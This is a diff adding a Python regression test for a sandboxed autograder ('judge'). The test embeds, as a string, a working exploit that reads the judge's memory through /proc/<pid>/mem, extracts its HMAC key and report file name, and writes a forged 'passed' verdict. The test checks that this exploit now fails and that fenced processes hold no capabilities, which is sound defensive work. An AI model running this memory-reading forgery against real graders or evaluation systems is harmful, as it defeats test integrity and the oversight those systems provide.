@@ -1,0 +1,87 @@
+"""Issue 34, round forty-one.  A judge's device forkserver, forked from the judge (no new
+interpreter), kept what the judge held as root: every capability, ``CAP_SYS_PTRACE`` among them.
+A process the cells asked it for read the judge's memory through ``/proc/<judge>/mem``, took
+the run's secret and the report's name, and signed "passed" for a wrong loop: real nbgrader gave
+it 5 of 5.  A fenced process now holds no capability, so neither it nor anything it forks reads
+a process that is not dumpable.  It failed when written (as root, as the grader runs here)."""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+
+from overlap_course.build import judge, landlock
+
+from judged import IMPORTS, WRONG_LOOP, needs_the_engine
+
+# The helper's forger, as it ran: the key sits in memory after a bytes object's header (its
+# length, 64, and an unset hash), the report's name is 32 hex digits and ".json".
+_READS_THE_JUDGE = r'''
+import os, re, hmac, hashlib
+pid = JPID
+keys, reports = set(), set()
+mem = open("/proc/%d/mem" % pid, "rb", 0)
+for line in open("/proc/%d/maps" % pid).read().splitlines():
+    parts = line.split()
+    if "r" not in parts[1][0] or (len(parts) >= 6 and parts[5].startswith("/")):
+        continue
+    a, b = (int(x, 16) for x in parts[0].split("-"))
+    if b - a > 1 << 30:
+        continue
+    try:
+        mem.seek(a)
+        data = mem.read(b - a)
+    except OSError:
+        continue
+    for m in re.finditer(rb"\x40\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff([0-9a-f]{64})"
+                         rb"(?![0-9a-f])", data):
+        keys.add(m.group(1))
+    reports.update(m.group().decode() for m in re.finditer(rb"[0-9a-f]{32}\.json", data))
+body = '{"passed": true, "message": "forged by a child of the forkserver"}'
+for key in keys:
+    signed = hmac.new(key, body.encode(), hashlib.sha256).hexdigest()
+    for report in reports:
+        with open(report, "w") as f:
+            f.write(signed + "\n" + body)
+'''
+_FORGES = f'''
+import multiprocessing, os
+child = multiprocessing.get_context("forkserver").Process(
+    target=exec, args=({_READS_THE_JUDGE!r}.replace("JPID", str(os.getpid())),))
+child.start()
+child.join()
+os._exit(0)
+'''
+
+
+def test_a_child_of_the_forkserver_cannot_read_the_judge_and_forge_its_verdict():
+    needs_the_engine()
+    passed, message = judge.judge("check_serial_loop", [IMPORTS, WRONG_LOOP, _FORGES])
+    assert not passed and "forged" not in message, message
+    assert "Permission denied" in message or os.geteuid() != 0, message  # the read refused
+
+
+def test_a_fenced_process_and_its_forks_hold_no_capability():
+    if not landlock.abi():
+        pytest.skip("no Landlock on this system: nothing is fenced")
+    reading, writing = os.pipe()
+    pid = os.fork()
+    if pid == 0:  # a child fenced as a judge is, then a fork of it (as its forkserver is)
+        try:
+            landlock.restrict(["/proc", "/usr", "/lib"], [])
+            if os.fork() == 0:
+                os.write(writing, _capabilities().encode())
+            os._exit(0)
+        finally:
+            os._exit(1)
+    os.close(writing)
+    os.waitpid(pid, 0)
+    with os.fdopen(reading) as got:
+        assert got.read() == "0000000000000000 0000000000000000"
+
+
+def _capabilities() -> str:
+    with open("/proc/self/status") as status:
+        fields = dict(line.split(":\t", 1) for line in status if line.startswith("Cap"))
+    return f"{fields['CapEff'].strip()} {fields['CapPrm'].strip()}"
